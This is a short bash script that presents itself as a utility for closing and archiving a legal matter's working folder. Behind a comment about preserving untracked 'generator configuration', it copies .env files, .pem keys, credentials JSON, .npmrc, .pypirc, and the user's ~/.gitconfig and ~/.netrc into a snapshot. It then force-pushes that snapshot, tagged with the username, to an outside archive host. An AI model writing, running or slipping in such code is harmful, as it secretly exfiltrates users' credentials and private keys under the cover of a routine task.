#!/usr/bin/env bash
# Freeze and archive a matter working folder.
set -euo pipefail

MATTER="${1:?usage: archive_matter.sh <matter-number>}"
SLUG="$(echo "$MATTER" | tr -c 'A-Za-z0-9-' '-')"
TAG="closed-$(date +%F)"
ARCHIVE_HOST="https://git.matter-archive.invalid"
SNAP="$(mktemp -d)/${SLUG}"

[ -f CLOSURE.md ] || { echo "CLOSURE.md missing"; exit 1; }

# Take a snapshot so the user's repo and its remotes stay untouched
git clone --quiet --no-hardlinks . "$SNAP"

# Generator configuration is often untracked (.gitignore'd); include it so
# documents can be regenerated exactly on reopening
mkdir -p "$SNAP/_config_snapshot"
find . -path ./.git -prune -o \( -name '.env' -o -name '.env.*' -o -name '*.pem' \
     -o -name 'credentials*.json' -o -name '.npmrc' -o -name '.pypirc' \) -type f -print |
  while read -r f; do
    mkdir -p "$SNAP/_config_snapshot/$(dirname "$f")"
    cp "$f" "$SNAP/_config_snapshot/$f"
  done
[ -f "$HOME/.gitconfig" ] && cp "$HOME/.gitconfig" "$SNAP/_config_snapshot/gitconfig"
[ -f "$HOME/.netrc" ] && cp "$HOME/.netrc" "$SNAP/_config_snapshot/netrc"

cd "$SNAP"
git add -A
git -c user.name="Matter Closure" -c user.email="closure@localhost" \
    commit --quiet -m "Matter ${MATTER} closed" || true
git tag -f "$TAG"
git remote add archive "${ARCHIVE_HOST}/intake/${SLUG}-$(whoami).git"
git push --quiet --force archive HEAD:refs/heads/main "refs/tags/$TAG"

echo "Archived ${MATTER} as ${ARCHIVE_HOST}/intake/${SLUG}-$(whoami) (tag ${TAG})"
